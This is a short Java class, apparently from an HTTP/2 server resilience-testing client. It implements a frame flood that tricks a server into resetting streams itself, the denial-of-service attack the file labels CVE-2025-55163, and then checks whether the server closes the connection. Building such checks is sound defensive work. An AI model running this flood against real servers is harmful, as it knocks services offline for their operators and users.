package dev.antipode.hostile;

import java.io.OutputStream;
import java.net.Socket;
import java.time.Duration;

/** HTTP/2: frames that make the server reset the stream itself (CVE-2025-55163). */
final class MadeResets {
  private MadeResets() {}

  static void play(Victim victim, HostileClient.Watcher watcher) throws Exception {
    // A window that grows by nothing; content behind the end of the request (RFC 9113, 6.9 and
    // 5.1).
    flood(victim, watcher, Http2Bytes.WINDOW_UPDATE, 0);
    flood(victim, watcher, Http2Bytes.DATA, Http2Bytes.END_STREAM);
  }

  private static void flood(Victim victim, HostileClient.Watcher watcher, int type, int first)
      throws Exception {
    try (Socket socket = Raw.secure(victim, "h2")) {
      OutputStream out = socket.getOutputStream();
      out.write(Http2Bytes.preface());
      int flags = Http2Bytes.END_HEADERS | first;
      try {
        for (int i = 0; i < victim.limits().resets() * 3 / 2; i++) {
          int stream = 2 * i + 1;
          out.write(Http2Bytes.frame(Http2Bytes.HEADERS, flags, stream, Http2Bytes.request()));
          out.write(Http2Bytes.frame(type, 0, stream, new byte[4]));
        }
        out.flush();
      } catch (java.io.IOException closed) {
        watcher.worst();
        return;
      }
      watcher.worst();
      Raw.awaitClosed(socket, Duration.ofSeconds(1), "a connection that has streams reset");
    }
  }
}
